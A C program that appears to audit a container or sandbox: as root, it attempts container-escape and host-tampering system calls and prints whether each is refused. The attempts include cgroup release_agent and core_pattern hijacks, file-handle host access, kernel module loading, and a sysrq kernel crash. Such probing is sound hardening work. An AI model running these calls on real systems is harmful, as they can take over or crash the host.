/*
 * Tries to get out, by the system calls that would let it, as root with every capability and no filter. Each line: what was tried, and
 * "refused: why" or "DONE".
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/perf_event.h>
#include <linux/reboot.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <unistd.h>

static void tell(const char *what, long result) {
  if (result < 0) printf("%s: refused: %s\n", what, strerrorname_np(errno));
  else printf("%s: DONE\n", what);
}

static long write_file(const char *path, const char *text) {
  int file = open(path, O_WRONLY | O_CLOEXEC);
  if (file < 0) return -1;
  long written = write(file, text, strlen(text));
  int error = errno;
  close(file);
  errno = error;
  return written;
}

/* Its own group can be mounted inside; what stands in it belongs to the host. */
static long write_group(const char *controller, const char *file, const char *text) {
  char path[64];
  mkdir("/tmp/cg", 0755);
  if (mount("cgroup", "/tmp/cg", "cgroup", 0, controller)) return -1;
  snprintf(path, sizeof path, "/tmp/cg/%s", file);
  long result = write_file(path, text);
  int error = errno;
  umount("/tmp/cg");
  errno = error;
  return result;
}

/* The host's root by a guessed handle: inode 2 of the file system that a file shown from the host lies on. */
static long open_by_handle(void) {
  struct { struct file_handle head; unsigned inode, generation; } handle = {{8, 1}, 2, 0};
  int file = open("/etc/hosts", O_RDONLY);
  return syscall(SYS_open_by_handle_at, file, &handle, O_RDONLY);
}

int main(int count, char **words) {
  struct timeval now = {0, 0};
  struct perf_event_attr event = {.type = PERF_TYPE_SOFTWARE, .size = sizeof event, .config = PERF_COUNT_SW_CPU_CLOCK};
  gettimeofday(&now, 0);
  mkdir("/tmp/mnt", 0755);
  tell("make a node of a disk", mknod("/tmp/disk", S_IFBLK | 0600, makedev(7, 0)));
  tell("make a node of memory", mknod("/tmp/mem", S_IFCHR | 0600, makedev(1, 1)));
  tell("mount a disk", mount(count > 1 ? words[1] : "/dev/loop0", "/tmp/mnt", "ext4", MS_RDONLY, 0));
  tell("mount devtmpfs", mount("dev", "/tmp/mnt", "devtmpfs", 0, 0));
  tell("mount debugfs", mount("debug", "/tmp/mnt", "debugfs", 0, 0));
  tell("allow itself all devices", write_group("devices", "devices.allow", "a"));
  tell("lift its memory limit", write_group("memory", "memory.limit_in_bytes", "-1"));
  tell("lift its process limit", write_group("pids", "pids.max", "max"));
  tell("name a release agent", write_group("none,name=systemd", "release_agent", "/tmp/mine"));
  tell("make control groups with a release agent", mount("cgroup", "/tmp/mnt", "cgroup", 0, "none,name=mine,release_agent=/tmp/mine"));
  tell("open a file of the host by its handle", open_by_handle());
  tell("set the clock", settimeofday(&now, 0));
  tell("load a module", syscall(SYS_init_module, "", 0, ""));
  tell("load a kernel", syscall(SYS_kexec_load, 0, 0, 0, 0));
  tell("use ports", iopl(3));
  tell("reach ports", ioperm(0x80, 1, 1));
  tell("swap to a file", swapon("/tmp/disk", 0));
  tell("turn accounting on", acct("/tmp/mnt"));
  tell("watch every process", syscall(SYS_perf_event_open, &event, -1, 0, -1, 0));
  tell("read the kernel's log", syscall(SYS_syslog, 3, words, sizeof words));
  tell("read the kernel's memory", open("/proc/kcore", O_RDONLY) < 0 ? -1 : (errno = EACCES, read(open("/proc/kcore", O_RDONLY), &now, 1) > 0 ? 0 : -1));
  tell("name a program for cores", write_file("/proc/sys/kernel/core_pattern", "|/tmp/mine"));
  tell("name a program for modules", write_file("/proc/sys/kernel/modprobe", "/tmp/mine"));
  tell("let the kernel crash", write_file("/proc/sysrq-trigger", "c"));
  tell("let the host's memory be promised", write_file("/proc/sys/vm/overcommit_memory", "1"));
  tell("lift the number of files", write_file("/proc/sys/fs/file-max", "9999999"));
  tell("set how addresses are mixed", write_file("/proc/sys/kernel/randomize_va_space", "0"));
  tell("name a program for events", write_file("/sys/kernel/uevent_helper", "/tmp/mine"));
  tell("write to the host's power switch", write_file("/sys/power/state", "mem"));
  return 0;
}
